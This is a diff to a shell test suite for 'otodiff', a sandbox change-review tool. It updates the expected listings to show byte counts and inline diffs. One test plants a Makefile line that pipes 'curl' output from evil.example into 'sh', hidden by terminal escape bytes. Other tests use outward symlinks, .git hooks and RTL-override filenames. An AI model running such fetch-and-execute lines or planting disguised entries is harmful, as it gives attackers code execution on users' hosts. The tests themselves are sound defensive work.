@@ -61,10 +61,18 @@ CHANGES='cd /work && echo new >n && printf "one\nTWO\nthree\n" >f && rm -rf d &&
 EXPECTED_LIST='deleted /work/d/
 deleted /work/d2/
 added /work/d3/
-added /work/d3/file
-added /work/e/k2
-deleted /work/e/k
-modified /work/f
+added /work/d3/file (5 bytes)
+--- /dev/null
++++ /work/d3/file (session)
+@@ -0,0 +1 @@
++file
+added /work/e/k2 (3 bytes)
+--- /dev/null
++++ /work/e/k2 (session)
+@@ -0,0 +1 @@
++n2
+deleted /work/e/k (5 bytes)
+modified /work/f (14 -> 14 bytes)
 --- /work/f (host)
 +++ /work/f (session)
 @@ -1,3 +1,3 @@
@@ -73,11 +81,19 @@ modified /work/f
 +TWO
  three
 mode /work/g/ 755 -> 700
-renamed /work/m -> /work/m2
-added /work/n
+renamed /work/m -> /work/m2 (3 bytes)
+added /work/n (4 bytes)
+--- /dev/null
++++ /work/n (session)
+@@ -0,0 +1 @@
++new
 added /work/z/
 added /work/z/q/
-added /work/z/q/r'
+added /work/z/q/r (2 bytes)
+--- /dev/null
++++ /work/z/q/r (session)
+@@ -0,0 +1 @@
++q'
 
 test_cow_session_listed_committed_host_untouched() {
 	before=$(snap "$W" ctime)
@@ -156,10 +172,10 @@ test_cow_symlinks_never_followed() {
 	outside=$(snap "$T/outside" ctime)
 	run otodiff --commit "$S"
 	assertEquals "commit rc ($(cat "$T/err"))" 0 "$rc"
-	assertEquals "what it did" "added /work/evil
-deleted /work/hl
+	assertEquals "what it did" "added /work/evil (symlink to $T/outside/secret)
+deleted /work/hl (symlink)
 added /work/hl/
-added /work/hl/secret" "$(cat "$T/out")"
+added /work/hl/secret (symlink to $T/outside/secret)" "$(cat "$T/out")"
 	assertEquals "evil is a symlink" "$T/outside/secret" "$(readlink "$W/evil")"
 	assertEquals "hl/secret is a symlink" "$T/outside/secret" "$(readlink "$W/hl/secret")"
 	assertTrue "hl is a directory now" "[ -d '$W/hl' ] && [ ! -L '$W/hl' ]"
@@ -203,7 +219,7 @@ one" "$rc $(cat "$T/out")"
 	assertFalse "nothing on the host" "[ -e '$W/r' ]"
 	run otodiff -s "$S"
 	assertEquals "a new repository's hooks and config are flagged" \
-		"added /work/r/.git/config (runs on the host later)" \
+		"added /work/r/.git/config ($(stat -c %s "$S/upper/work/r/.git/config") bytes) (runs on the host later)" \
 		"$(grep -F /work/r/.git/config "$T/out")"
 	run otodiff --commit "$S"
 	assertEquals "refused without --allow-protected" 101 "$rc"
@@ -294,7 +310,11 @@ test_cow_after_a_restart_refused() {
 	run otodiff --commit "$S"
 	assertEquals "not committed" "101 otodiff: fatal: nothing committed: the host restarted while the session in $S was mounted (its writes may be lost): review it, copy what you need by hand, discard it" "$rc $(cat "$T/err")"
 	run otodiff "$S"
-	assertEquals "listed, with a warning" "0 added /work/n
+	assertEquals "listed, with a warning" "0 added /work/n (4 bytes)
+--- /dev/null
++++ /work/n (session)
+@@ -0,0 +1 @@
++one
 otodiff: warning: the host restarted while the session in $S was mounted: writes may be lost" "$rc $(cat "$T/out" "$T/err")"
 	assertFalse "nothing on the host" "[ -e '$W/n' ]"
 	chmod -R u+rwx "$S/work"
@@ -306,8 +326,16 @@ test_cow_private_too() {
 	assertEquals "session rc ($(cat "$T/err"))" 0 "$rc"
 	assertFalse "nothing in the host's /private" "[ -e '$A/people/alice/p' ]"
 	run otodiff "$S"
-	assertEquals "both trees" "added /work/w
-added /private/p" "$(cat "$T/out")"
+	assertEquals "both trees" "added /work/w (2 bytes)
+--- /dev/null
++++ /work/w (session)
+@@ -0,0 +1 @@
++w
+added /private/p (2 bytes)
+--- /dev/null
++++ /private/p (session)
+@@ -0,0 +1 @@
++p" "$(cat "$T/out")"
 }
 
 # A manager's /knowledge and /config follow --cow-all; without it they are written as before.
@@ -318,10 +346,10 @@ test_cow_all_for_a_manager() {
 		--cow-all -- sh -c 'echo k >/knowledge/k && echo c >/config/c && echo p >/private/p'
 	assertEquals "session rc ($(cat "$T/err"))" 0 "$rc"
 	assertEquals "nothing on the host" "" "$(find "$A/knowledge" "$A/config" "$A/people/alice" -type f)"
-	run otodiff "$S"
-	assertEquals "every tree, in the order the view makes them" "0 added /knowledge/k
-added /config/c
-added /private/p" "$rc $(cat "$T/out")"
+	run otodiff --summary "$S"
+	assertEquals "every tree, in the order the view makes them" "0 added /knowledge/k (2 bytes)
+added /config/c (2 bytes)
+added /private/p (2 bytes)" "$rc $(cat "$T/out")"
 }
 
 # Names with newlines and escapes, the longest name, a deep tree: listed escaped, committed whole.
@@ -333,10 +361,10 @@ b' && printf x >'t\\\\x' && printf x >$long &&
 	assertEquals "session rc ($(cat "$T/err"))" 0 "$rc"
 	run otodiff "$S"
 	assertEquals "list rc ($(cat "$T/err"))" 0 "$rc"
-	assertEquals "a newline escaped" "added /work/a\\nb (name escaped)" "$(sed -n 1p "$T/out")"
-	assertEquals "a backslash escaped" "1" "$(grep -c '^added /work/t\\\\\\\\x$' "$T/out")"
+	assertEquals "a newline escaped" "added /work/a\\nb (1 byte) (name escaped)" "$(sed -n 1p "$T/out")"
+	assertEquals "a backslash escaped" "1" "$(grep -c '^added /work/t\\\\\\\\x (1 byte)$' "$T/out")"
 	# /work/d is the host's: 3 files, 99 directories added under it, the deep file.
-	assertEquals "every entry" 103 "$(wc -l <"$T/out")"
+	assertEquals "every entry" 103 "$(grep -c '^added ' "$T/out")"
 	run otodiff --commit "$S"
 	assertEquals "commit rc ($(cat "$T/err"))" 0 "$rc"
 	assertEquals "the newline's file" x "$(cat "$W/a
@@ -360,12 +388,14 @@ test_cow_hostile_bytes_escaped() {
 	run otodiff "$S"
 	assertEquals "list rc ($(cat "$T/err"))" 0 "$rc"
 	# The exact bytes: the TAB as it is, CR and ESC as \015 and \033, the line marked.
-	printf '%s\n' 'modified /work/Makefile' '--- /work/Makefile (host)' \
+	printf '%s\n' 'modified /work/Makefile (5 -> 64 bytes)' '--- /work/Makefile (host)' \
 		'+++ /work/Makefile (session)' '@@ -1 +1,2 @@' ' all:' \
 		'!+	curl -s http://evil.example/x | sh #\015\033[2K+	@echo building' \
-		'added /work/a\342\200\256gpj.exe (name escaped)' \
-		'added /work/b\233c (name escaped)' 'added /work/c\377d (name escaped)' \
-		'added /work/d\342\200\213e (name escaped)' >"$T/want"
+		>"$T/want"
+	for n in 'a\342\200\256gpj.exe' 'b\233c' 'c\377d' 'd\342\200\213e'; do
+		printf '%s\n' "added /work/$n (1 byte) (name escaped)" '--- /dev/null' \
+			"+++ /work/$n (session)" '@@ -0,0 +1 @@' '+x' '\ No newline at end of file'
+	done >>"$T/want"
 	assertEquals "escaped and marked" "" "$(cmp "$T/want" "$T/out" 2>&1 && echo)"
 	assertEquals "no byte outside printable ASCII, TAB and newline" "" \
 		"$(LC_ALL=C tr -d ' -~\t\n' <"$T/out" | od -An -c)"
@@ -384,7 +414,7 @@ test_cow_through_otorun() {
 	assertEquals "otorun ($(cat "$T/err"))" "0 via-otorun" "$rc $(cat "$T/out")"
 	assertFalse "not on the host" "[ -e '$W/o' ]"
 	run otodiff "$S"
-	assertEquals "listed" "0 added /work/o" "$rc $(cat "$T/out")"
+	assertEquals "listed" "0 added /work/o (11 bytes)" "$rc $(sed -n 1p "$T/out")"
 }
 
 . shunit2
